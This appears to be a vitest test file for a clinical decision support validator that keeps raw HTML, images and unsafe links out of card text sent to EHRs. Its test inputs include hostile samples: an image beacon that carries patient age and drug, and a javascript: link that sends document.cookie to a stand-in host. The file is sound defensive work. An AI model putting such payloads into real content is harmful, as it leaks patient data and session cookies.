/**
 * Card text (summary, detail, escalation summaries) reaches EHRs that render GitHub-flavoured
 * Markdown, some with raw HTML on; the console preview strips HTML, images and unsafe links. So
 * validateRule refuses them: raw HTML (a zero-click beacon carrying patient data), images, and
 * links whose target is not https or holds a placeholder (console security review, finding 1).
 */
import { readFileSync, readdirSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { validateRule } from '../../src/engine/index.ts';
import { cardText } from '../../src/engine/compile-rules.ts';
import { ruleErrors } from './rule-errors.ts';

const FILE = 'opioid-high-mme.json';
const NOT_ALLOWED = 'raw HTML, images and non-https links are not allowed in card text';

const errorsFor = ruleErrors(FILE);

const withDetail = (extra: string) => errorsFor((r) => (r.card.detail += `\n\n${extra}`));
const markupErrors = (errors: string[]) => errors.filter((e) => e.includes(NOT_ALLOWED));

describe('validateRule: card text holds no raw HTML, image or non-https link', () => {
  it('accepts every shipped rule', () => {
    for (const name of readdirSync('rules').filter((f) => f.endsWith('.json'))) {
      const result = validateRule(JSON.parse(readFileSync(`rules/${name}`, 'utf8')), name);
      expect(result.ok ? [] : result.errors, name).toEqual([]);
    }
  });

  it('accepts https links, inline, reference-style and bare', () => {
    expect(withDetail('See the [CDC guideline](https://www.cdc.gov/mmwr/volumes/71/rr/rr7103a1.htm), [the IG][ig] or https://example.org/x.\n\n[ig]: https://build.fhir.org/ig/cqframework/opioid-cds-r4/')).toEqual([]);
  });

  it('refuses the zero-click beacon <img src="http://host/beacon?age={{patientAge}}"> with the pointer and what to do', () => {
    const errors = withDetail('<img src="http://127.0.0.1:18799/beacon?age={{patientAge}}&drug={{order}}" alt="">');
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatch(/^opioid-high-mme\.json: \/card\/detail: raw HTML "<img src=.*beacon\?age=\{\{…\}\}.*: write the text in Markdown instead/);
    expect(errors[0]).toContain(NOT_ALLOWED);
  });

  it('refuses inline and block HTML anywhere: paragraphs, lists, tables, comments', () => {
    for (const text of ['Take <b>care</b>.', '<div>\nblock\n</div>', '- item <span onclick="x()">y</span>', '| a | b |\n|---|---|\n| <i>c</i> | d |', '<!-- hidden -->', 'a <a href="https://ok.example">b</a>']) {
      const errors = markupErrors(withDetail(text));
      expect(errors.length, text).toBeGreaterThan(0);
      expect(errors.every((e) => e.startsWith(`${FILE}: /card/detail: raw HTML`)), errors.join('\n')).toBe(true);
    }
  });

  it('refuses images, even from https and inside a link', () => {
    for (const text of ['![x](https://example.org/a.png)', '[![x](https://example.org/a.png)](https://example.org)', '![x][p]\n\n[p]: https://example.org/a.png']) {
      expect(markupErrors(withDetail(text)).some((e) => e.includes('/card/detail: image ')), text).toBe(true);
    }
  });

  it('refuses javascript:, data:, http, relative and entity-obfuscated link targets', () => {
    for (const [text, href] of [
      ["[CDC dosing guide](javascript:fetch('http://x/?c='+document.cookie))", 'javascript:'],
      ['[a](data:text/html;base64,PHNjcmlwdD4=)', 'data:'],
      ['[a](http://example.org)', 'http://example.org'],
      ['[a](/admin/)', '/admin/'],
      ['[a](javascript&#58;alert(1))', 'javascript&#58;'],
      ['[a](JAVASCRIPT:alert(1))', 'JAVASCRIPT:'],
    ]) {
      const errors = markupErrors(withDetail(text!));
      expect(errors.length, text).toBeGreaterThan(0);
      expect(errors[0], text).toMatch(/\/card\/detail: link .* goes to ".*": use an https:\/\/ address/);
      expect(errors[0], text).toContain(href);
    }
  });

  it('refuses autolinks, bare http and www. addresses, e-mail addresses, and reference-style links to http', () => {
    for (const text of ['<http://example.org>', 'http://example.org/x', 'see www.example.org', 'write to pharmacy@example.org', '[guide][g]\n\n[g]: http://example.org']) {
      expect(markupErrors(withDetail(text)).length, text).toBeGreaterThan(0);
    }
  });

  it('refuses an https link whose address carries patient data from a placeholder', () => {
    const errors = withDetail('[more](https://example.org/?age={{patientAge}})');
    expect(errors).toEqual([expect.stringMatching(/\/card\/detail: link .* puts patient data \(\{\{…\}\}\) in the address/)]);
  });

  it("checks the detail with the parameters' values in place, where a text value is escaped and so cannot add HTML", () => {
    const rule = (r: any) => {
      r.parameters.note = { value: '<img src="http://x/b">', description: 'a note' };
      r.card.detail += '\n\n{{param.note}} {{param:note}}';
    };
    expect(errorsFor(rule)).toEqual([]);
    const shipped = JSON.parse(readFileSync(`rules/${FILE}`, 'utf8'));
    rule(shipped);
    const escaped = '\\<img src="http\\://x/b"\\>';
    expect(cardText(shipped).detail).toContain(`${escaped} ${escaped}`);
    // The author's own text is still checked as the EHR gets it.
    expect(markupErrors(errorsFor((r) => (r.card.detail += '\n\n<img src="http://x/{{param:infoThreshold}}">')))).toEqual([
      expect.stringMatching(/^opioid-high-mme\.json: \/card\/detail: raw HTML "<img src=\\"http:\/\/x\/50\\">"/),
    ]);
  });

  it('checks the summary and escalation summaries', () => {
    expect(markupErrors(errorsFor((r) => (r.card.summary = 'High opioid dose: see <b>now</b> before increasing.'))).some((e) => e.startsWith(`${FILE}: /card/summary: raw HTML`))).toBe(true);
    expect(markupErrors(errorsFor((r) => (r.escalations[0].summary = 'High opioid dose: see www.example.org before increasing.'))).some((e) => e.startsWith(`${FILE}: /escalations/0/summary: link`))).toBe(true);
  });

  it('leaves HTML-looking text in code, escaped, or not a tag alone', () => {
    expect(withDetail('`<img src=x>` and \\<b\\> and dose <5 mg and a < b > c')).toEqual([]);
  });
});
